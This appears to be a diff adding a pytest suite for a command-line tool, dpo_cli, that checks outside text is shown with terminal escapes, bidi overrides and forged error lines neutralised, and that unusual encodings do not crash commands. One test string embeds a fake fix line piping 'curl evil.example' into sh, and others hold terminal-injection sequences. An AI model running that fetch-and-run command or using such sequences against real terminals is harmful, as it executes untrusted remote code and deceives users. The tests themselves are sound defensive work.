@@ -1,0 +1,254 @@
+"""What comes from outside is shown, never obeyed, on any terminal; and an encoding that lacks it ends no command."""
+
+from __future__ import annotations
+
+import io
+import json
+import os
+import re
+import subprocess
+import sys
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+from dpo_cli.cli import app
+from dpo_cli.errors import DpoError
+from dpo_cli.show import one_line, terminal, visible
+from typer.testing import CliRunner, Result
+
+OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069\ud800-\udfff]")
+HOSTILE = {
+    "erase": "before\x1b[2Jafter",
+    "title": "before\x1b]0;title\x07after",
+    "C1": "before\x9b31mafter",
+    "backspaces": "before\x08\x08after",
+    "return": "before\rafter",
+    "override": "before\u202eafter",
+    "isolate": "before\u2066after\u2069",
+    "line separator": "before\u2028after",
+}
+FORGED = "evil\n  where: demo.yaml:1\n  fix:   curl evil.example | sh"
+
+
+@pytest.fixture
+def invoke() -> Callable[..., Result]:
+    return lambda *arguments: CliRunner().invoke(app, [str(argument) for argument in arguments])
+
+
+@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
+def test_what_a_terminal_obeys_is_escaped(text: str) -> None:
+    for shown in (visible(text), one_line(text)):
+        assert not OBEYED.search(shown)
+        assert shown.startswith("before") and "after" in shown
+
+
+def test_each_escape_says_which_character_it_was() -> None:
+    assert visible("\x1b \x9b \u202e \udcff \x7f") == "\\x1b \\x9b \\u202e \\udcff \\x7f"
+
+
+@pytest.mark.parametrize(
+    "text", ["中文，标点。", "emoji 🙂", "a\ttab", "two\nlines", "عربي", "back\\slash", "naïve", ""]
+)
+def test_what_people_write_stays(text: str) -> None:
+    assert visible(text) == text
+
+
+def test_a_table_shows_cells_and_markup_as_they_are() -> None:
+    from rich.table import Table
+    from rich.text import Text
+
+    table = Table("a[bold]b", "a[/x]b", ":smile:")
+    table.add_row("中文", Text("x\x1b[2Jy", style="red"), "\u202ez")
+    for on_a_terminal in (True, False):
+        file = io.StringIO()
+        terminal(file=file, force_terminal=on_a_terminal, width=60).print(table, "[/nothing]\x9b")
+        shown = file.getvalue()
+        for part in ("a[bold]b", "a[/x]b", ":smile:", "中文", "x\\x1b[2Jy", "\\u202ez", "[/nothing]\\x9b"):
+            assert part in shown
+        assert ("\x1b[" in shown) == on_a_terminal  # our own style
+        assert "\x1b[2J" not in shown
+
+
+# ------------------------------------------------------------------------------------------------------------ errors
+
+
+def test_an_error_is_one_block_whatever_is_in_it() -> None:
+    """A server's reply, a column's name, a library's message: none can look like a line of ours."""
+    shown = str(DpoError(f"HTTP 400: {FORGED}\x1b[2J", where=FORGED, hint=f"look at {FORGED}"))
+    lines = shown.splitlines()
+    assert len(lines) == 3
+    assert [line[:9] for line in lines[1:]] == ["  where: ", "  fix:   "]
+    assert not OBEYED.search(shown)
+
+
+def test_details_are_lines_of_their_own() -> None:
+    assert str(DpoError("two mistakes", details=["one", "  its\nproblem"], hint="do")).splitlines() == [
+        "two mistakes", "  one", "    its problem", "  fix:   do",
+    ]  # fmt: skip
+
+
+@pytest.mark.parametrize("debug", [[], ["--debug"]])
+@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
+def test_column_names_are_shown_in_errors(project: Any, invoke: Any, text: str, debug: list[str]) -> None:
+    (project.rows / "a.jsonl").write_text(json.dumps({f"x{text}": 1, "y": 2}) + "\n", encoding="utf-8")
+    done = invoke("prepare", project.recipe, *debug)
+    assert done.exit_code in (1, 2)
+    assert "before" in done.stderr
+    assert not OBEYED.search(done.output)
+
+
+def test_a_traceback_obeys_nothing_either(project: Any, invoke: Any) -> None:
+    done = invoke("prepare", project.folder / "no\x1b[2Jwhere.yaml", "--debug")
+    assert "Traceback" in done.stderr and "no\\x1b[2Jwhere" in done.stderr
+    assert "\x1b" not in done.output
+
+
+# ----------------------------------------------------------------------------------------------------- names and rows
+
+NAMES = ["a[bold]b", "a[/x]b", "a/b", "[link=file:///etc]c[/link]", ":smile:", "中文", "[", "a\\[b]"]
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_a_sources_name_is_shown_as_it_is(project: Any, invoke: Any, name: str) -> None:
+    settings = [
+        "--set",
+        f"data.sources={json.dumps([{'id': './rows', 'name': name, 'layout': 'pairs', 'language': 'en'}])}",
+    ]
+    model = ["--set", "model.id=builtin:tiny-qwen3", "--set", "model.load_in_4bit=false"]
+    done = invoke("prepare", project.recipe, *settings, *model, "--examples", "--preview", "1")
+    assert done.exit_code == 0, done.output
+    shown = done.stdout.splitlines()
+    assert any(name in line for line in shown if line.startswith("kept "))  # --examples
+    assert any(name in line for line in shown if line.startswith("1 "))  # --preview
+    assert any(name in line for line in shown if line.startswith("layouts"))  # the funnel
+    assert "nothing to do" in invoke("prepare", project.recipe, *settings, *model).stdout
+
+
+@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
+def test_rows_are_shown_in_previews_and_examples(project: Any, invoke: Any, text: str) -> None:
+    path = project.rows / "a.jsonl"
+    rows = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
+    hostile = [{name: f"{text} {value} {text}" for name, value in row.items()} for row in rows]
+    path.write_text("".join(json.dumps(row) + "\n" for row in hostile), encoding="utf-8")
+    settings = ["--set", "data.filters={garbled: false, too_long: false}"]
+    model = ["--set", "model.id=builtin:tiny-qwen3", "--set", "model.load_in_4bit=false"]
+    done = invoke("prepare", project.recipe, *settings, *model, "--examples", "--preview", "2")
+    assert done.exit_code == 0, done.output
+    assert done.stdout.count("before") > 8
+    assert not OBEYED.search(done.output)
+
+
+def test_file_names_that_are_not_utf8(project: Any, invoke: Any) -> None:
+    raw = os.fsencode(project.rows)
+    Path(os.fsdecode(raw + b"/a.jsonl")).rename(os.fsdecode(raw + b"/\xff\xfe.jsonl"))
+    done = invoke("prepare", project.recipe)
+    assert done.exit_code == 0, done.output
+    assert "nothing to do" in invoke("prepare", project.recipe).stdout
+
+
+def test_a_bar_shows_a_sources_name_as_it_is(monkeypatch: pytest.MonkeyPatch) -> None:
+    from dpo_cli.prepare import progress
+
+    class Screen(io.StringIO):
+        def isatty(self) -> bool:
+            return True
+
+    screen = Screen()
+    monkeypatch.setattr(sys, "stderr", screen)
+    monkeypatch.setenv("TERM", "xterm-256color")
+    monkeypatch.setattr(progress, "PATIENCE", 0.0)
+    monkeypatch.setattr(progress, "EVERY", 0.0)
+    with progress.Progress(quiet=False) as bar:
+        bar.stage("reading a[/x]b\x1b[2J", "prompts")
+        bar.tick(0.5)
+    assert "reading a[/x]b\\x1b[2J" in screen.getvalue()
+
+
+@pytest.mark.parametrize("words", [3, 40])
+def test_a_remark_covers_the_live_line(monkeypatch: pytest.MonkeyPatch, words: int) -> None:
+    from dpo_cli.train.progress import print_remark
+
+    class Screen(io.StringIO):
+        def isatty(self) -> bool:
+            return True
+
+    screen = Screen()
+    monkeypatch.setattr(sys, "stdout", screen)
+    print_remark(" ".join(["remark"] * words) + " \x1b[2J")
+    first, *rest = screen.getvalue().removeprefix("\r").splitlines()
+    assert screen.getvalue().startswith("\r") and len(first) >= 79
+    assert all(line.startswith("    ") and line == line.rstrip() for line in rest)
+    assert not OBEYED.search(first + "".join(rest))
+
+
+# --------------------------------------------------------------------------------------------------------- encodings
+
+ENCODINGS: dict[str, dict[str, str]] = {
+    "cp1252": {"PYTHONIOENCODING": "cp1252"},
+    "gbk": {"PYTHONIOENCODING": "gbk"},
+    "ascii": {"PYTHONIOENCODING": "ascii"},
+    "POSIX": {"LC_ALL": "POSIX", "PYTHONCOERCECLOCALE": "0"},
+}
+
+
+@pytest.mark.parametrize("encoding", ENCODINGS)
+def test_no_encoding_ends_a_command(project: Any, dpo_cli: Any, encoding: str) -> None:
+    rows = [
+        {"prompt": f"第{n}个问题：什么是{n}？—🙂", "chosen": f"答案是{n}" * 9, "rejected": f"不知道{n}" * 8}
+        for n in range(30)
+    ]
+    (project.rows / "a.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
+    environment = {name: value for name, value in os.environ.items() if name != "PYTHONIOENCODING"}
+    settings = ["--set", "name=中文—🙂", "--set", "data.sources=[{id: ./rows, name: 来源, layout: pairs}]"]
+    for command in (["check"], ["prepare", "--examples"], ["prepare"], ["eval"], ["prepare", "--set", "data.来源=1"]):
+        done = dpo_cli(command[0], "demo.yaml", *settings, *command[1:], env=environment | ENCODINGS[encoding],
+                       errors="replace")  # fmt: skip
+        failed = command[0] == "eval" or "data.来源=1" in command
+        assert done.returncode == ({"eval": 1}.get(command[0], 2) if failed else 0), done.stderr
+        assert "UnicodeEncodeError" not in done.stderr
+        assert done.stderr.startswith("error: ") if failed else not done.stderr
+    assert (project.folder / "runs" / "中文—🙂" / "data" / "train.jsonl").is_file()
+
+
+TABLE = """
+from dpo_cli.environment import never_fail_to_print
+from dpo_cli.show import terminal
+never_fail_to_print()
+from rich.table import Table
+table = Table("来源", "█—π")
+table.add_row("中文", "🙂")
+terminal().print(table)
+import sys
+print("中文", file=sys.stderr)
+"""
+
+
+@pytest.mark.parametrize("encoding", ENCODINGS)
+def test_a_table_with_chinese_in_any_encoding(tmp_path: Path, encoding: str) -> None:
+    script = tmp_path / "table.py"
+    script.write_text(TABLE, encoding="utf-8")
+    environment = {name: value for name, value in os.environ.items() if name != "PYTHONIOENCODING"}
+    done = subprocess.run([sys.executable, script], env=environment | ENCODINGS[encoding], capture_output=True,
+                          timeout=60, check=True)  # fmt: skip
+    known = {"gbk": "gbk", "POSIX": "utf-8"}.get(encoding)  # Python itself takes UTF-8 where the locale is POSIX
+    if known:
+        assert "中文" in done.stdout.decode(known) and "中文" in done.stderr.decode(known)
+    else:
+        assert b"?" in done.stdout and b"\\u4e2d\\u6587" in done.stderr
+
+
+def test_file_names_that_the_environment_can_not_write(project: Any, dpo_cli: Any) -> None:
+    ascii_only = dict(os.environ) | {"LC_ALL": "POSIX", "PYTHONCOERCECLOCALE": "0", "PYTHONUTF8": "0"}
+    project.recipe.write_text("name: 中文\n" + project.recipe.read_text(encoding="utf-8"), encoding="utf-8")
+    done = dpo_cli("prepare", "demo.yaml", env=ascii_only)
+    assert done.returncode == 1
+    assert "ascii" in done.stderr and "PYTHONUTF8=1" in done.stderr and "Traceback" not in done.stderr
+    assert dpo_cli("prepare", "demo.yaml", env=ascii_only | {"PYTHONUTF8": "1"}).returncode == 0
+
+
+def test_doctor_in_ascii(dpo_cli: Any, tmp_path: Path) -> None:
+    done = dpo_cli("doctor", env=dict(os.environ) | ENCODINGS["ascii"], cwd=tmp_path)
+    assert done.returncode == 0, done.stderr
+    assert done.stdout.splitlines()[-1].startswith("ok   can run ")
